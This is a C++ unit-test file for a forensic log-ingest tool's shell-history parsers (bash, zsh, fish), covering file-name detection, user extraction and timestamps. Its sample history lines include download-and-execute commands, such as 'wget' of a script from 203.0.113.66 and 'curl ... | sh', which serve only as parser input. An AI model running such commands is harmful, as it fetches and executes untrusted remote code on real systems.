// bash, zsh and fish histories: chosen by file name, times from stamps.
#include "ingest/formats/shell_history/shell_history.h"

#include <gtest/gtest.h>

#include "ingest/event_json.h"
#include "ingest/formats/registry.h"
#include "support/line_harness.h"

namespace shodo::ingest {
namespace {

using shodo::testing::detect;
using shodo::testing::ParserHarness;

// A history file at `path`; histories carry no zone.
struct History : ParserHarness {
  History(std::string_view format, std::string_view path) : ParserHarness(format, "", path) {}
};

std::string chosen(std::string_view path) {
  return detect({"ls", "id"}, path, 0, "").choice.name;
}

TEST(ShellHistoryNames, ChosenByFileName) {
  EXPECT_EQ(chosen("/home/alice/.bash_history"), "bash_history");
  EXPECT_EQ(chosen("/root/.sh_history"), "bash_history");
  EXPECT_EQ(chosen("/root/.ash_history"), "bash_history");
  EXPECT_EQ(chosen("/home/bob/.history"), "bash_history");
  EXPECT_EQ(chosen("case1/web1/home/alice/.bash_history.gz"), "bash_history");
  EXPECT_EQ(chosen("collected/alice.bash_history"), "bash_history");
  EXPECT_EQ(chosen("/home/alice/.zsh_history"), "zsh_history");
  EXPECT_EQ(chosen("/Users/carol/.zhistory"), "zsh_history");
  EXPECT_EQ(chosen("/home/dave/.local/share/fish/fish_history"), "fish_history");
  EXPECT_EQ(chosen("/home/dave/.local/share/fish/work_history"), "fish_history");
  for (std::string_view other :
       {"/var/log/access.log", "/home/alice/.python_history", "/home/alice/.mysql_history",
        "/home/alice/.psql_history", "/tmp/history", "/home/alice/notes/work_history"}) {
    const FormatInfo* hit = nullptr;
    for (const auto& f : FormatRegistry::instance().formats())
      if (f.name_says && f.name_says(other)) hit = &f;
    EXPECT_EQ(hit, nullptr) << other << " taken by " << hit->name;
  }
  for (std::string_view name : {"bash_history", "zsh_history", "fish_history"}) {
    const FormatInfo* f = FormatRegistry::instance().find(name);
    ASSERT_NE(f, nullptr);
    EXPECT_FALSE(f->detect);
    EXPECT_EQ(f->kind, LogKind::shell_history);
    EXPECT_TRUE(f->make()->sequential());
  }
}

TEST(ShellHistoryNames, UserFromPath) {
  EXPECT_EQ(history::user_from_path("/home/alice/.bash_history"), "alice");
  EXPECT_EQ(history::user_from_path("/root/.bash_history"), "root");
  EXPECT_EQ(history::user_from_path("/Users/bob/.zsh_history"), "bob");
  EXPECT_EQ(history::user_from_path("case/web1/home/carol/.bash_history"), "carol");
  EXPECT_EQ(history::user_from_path("home/dave/.local/share/fish/fish_history"), "dave");
  EXPECT_EQ(history::user_from_path("C:\\cases\\home\\erin\\.bash_history"), "erin");
  EXPECT_EQ(history::user_from_path("/var/root/.sh_history"), "root");
  EXPECT_EQ(history::user_from_path("/tmp/.bash_history"), "");
  EXPECT_EQ(history::user_from_path("/home/.bash_history"), "");
  EXPECT_EQ(history::user_from_path(".bash_history"), "");
}

TEST(ShellHistoryBash, StampsTimeTheLinesAfterThem) {
  History h("bash_history", "/home/alice/.bash_history");
  ASSERT_EQ(h.feed("ls -la"), LineResult::event);
  EXPECT_EQ(h.time(), "<none>");
  EXPECT_EQ(h.ev.command, "ls -la");
  EXPECT_EQ(h.ev.message, "ls -la");
  EXPECT_EQ(h.ev.user, "alice");
  EXPECT_EQ(h.feed("#1700000000"), LineResult::meta);
  ASSERT_EQ(h.feed("wget http://203.0.113.66/x.sh"), LineResult::event);
  EXPECT_EQ(h.time(), "2023-11-14T22:13:20Z");
  EXPECT_FALSE(h.ev.offset_assumed);
  EXPECT_EQ(h.ev.duration_us, -1);
  ASSERT_EQ(h.feed("chmod +x x.sh"), LineResult::event);  // same entry, or untimed after it
  EXPECT_EQ(h.time(), "2023-11-14T22:13:20Z");
  EXPECT_EQ(h.feed("#+1700000060"), LineResult::meta);  // tcsh's form
  ASSERT_EQ(h.feed("./x.sh"), LineResult::event);
  EXPECT_EQ(h.time(), "2023-11-14T22:14:20Z");
  // Comments typed at the prompt are commands, not stamps.
  ASSERT_EQ(h.feed("# not a stamp"), LineResult::event);
  ASSERT_EQ(h.feed("#17000x"), LineResult::event);
  // bash bytes are never zsh-decoded.
  ASSERT_EQ(h.feed("echo \xE3\x83\xBC"), LineResult::event);
  EXPECT_EQ(h.ev.command, "echo \xE3\x83\xBC");
}

TEST(ShellHistoryBash, CloneKeepsThePendingStamp) {
  History h("bash_history", "/root/.bash_history");
  EXPECT_EQ(h.feed("#1700000000"), LineResult::meta);
  auto copy = h.parser->clone();
  Event ev;
  ev.raw = "id";
  ASSERT_EQ(copy->parse("id", ev, h.ctx), LineResult::event);
  EXPECT_EQ(format_utc(ev.time), "2023-11-14T22:13:20Z");
  EXPECT_EQ(ev.user, "root");
}

TEST(ShellHistoryZsh, ExtendedEntriesAndContinuations) {
  History h("zsh_history", "/home/bob/.zsh_history");
  ASSERT_EQ(h.feed(": 1700000000:5;sudo -i"), LineResult::event);
  EXPECT_EQ(h.time(), "2023-11-14T22:13:20Z");
  EXPECT_EQ(h.ev.duration_us, 5000000);
  EXPECT_EQ(h.ev.command, "sudo -i");
  EXPECT_EQ(h.ev.user, "bob");

  ASSERT_EQ(h.feed(": 1700000100:0;for h in a b\\"), LineResult::event);
  EXPECT_EQ(h.ev.command, "for h in a b");
  ASSERT_EQ(h.feed(": 1700000999:0;do ssh $h\\"), LineResult::event);  // continued, not a stamp
  EXPECT_EQ(h.ev.command, ": 1700000999:0;do ssh $h");
  EXPECT_EQ(h.time(), "2023-11-14T22:15:00Z");
  EXPECT_EQ(h.ev.duration_us, -1);
  ASSERT_EQ(h.feed("done"), LineResult::event);
  EXPECT_EQ(h.ev.command, "done");
  EXPECT_EQ(h.time(), "2023-11-14T22:15:00Z");

  // zsh writes some bytes "metafied": 0x83 then the byte XOR 0x20.
  ASSERT_EQ(h.feed(": 1700000200:0;echo \xE3\x83\xA3\xBC"), LineResult::event);
  EXPECT_EQ(h.ev.command, "echo \xE3\x83\xBC");
  ASSERT_EQ(h.feed("plain line"), LineResult::event);
  EXPECT_EQ(h.ev.duration_us, -1);
  ASSERT_EQ(h.feed(": 17x:0;odd"), LineResult::event);
  EXPECT_EQ(h.ev.command, ": 17x:0;odd");
}

TEST(ShellHistoryFish, EntriesCiteTheirCommandLine) {
  History h("fish_history", "/home/dave/.local/share/fish/fish_history");
  EXPECT_EQ(h.feed("- cmd: curl -fsSL http://203.0.113.66/i | sh"), LineResult::meta);
  ASSERT_EQ(h.feed("  when: 1700000000"), LineResult::event);
  EXPECT_EQ(h.ev.line, 1u);
  EXPECT_EQ(h.ev.raw, "- cmd: curl -fsSL http://203.0.113.66/i | sh");
  EXPECT_EQ(h.ev.command, "curl -fsSL http://203.0.113.66/i | sh");
  EXPECT_EQ(h.time(), "2023-11-14T22:13:20Z");
  EXPECT_EQ(h.ev.user, "dave");
  EXPECT_EQ(h.feed("  paths:"), LineResult::meta);
  EXPECT_EQ(h.feed("    - /tmp/i"), LineResult::meta);

  EXPECT_EQ(h.feed("- cmd: echo a\\nb \\\\ c"), LineResult::meta);
  ASSERT_EQ(h.feed("  when: 1700000001"), LineResult::event);
  EXPECT_EQ(h.ev.command, "echo a\nb \\ c");

  // An entry cut before its when: reported untimed when the next one starts.
  EXPECT_EQ(h.feed("- cmd: first"), LineResult::meta);
  ASSERT_EQ(h.feed("- cmd: second"), LineResult::event);
  EXPECT_EQ(h.ev.line, 7u);
  EXPECT_EQ(h.ev.command, "first");
  EXPECT_FALSE(h.ev.has_time());
  ASSERT_EQ(h.feed("  when: 1700000002"), LineResult::event);
  EXPECT_EQ(h.ev.line, 8u);
  EXPECT_EQ(h.ev.command, "second");

  EXPECT_EQ(h.feed("  when: 1700000003"), LineResult::meta);  // no entry open
  EXPECT_EQ(h.feed("garbage"), LineResult::bad);
  EXPECT_FALSE(h.error().empty());
}

}  // namespace
}  // namespace shodo::ingest
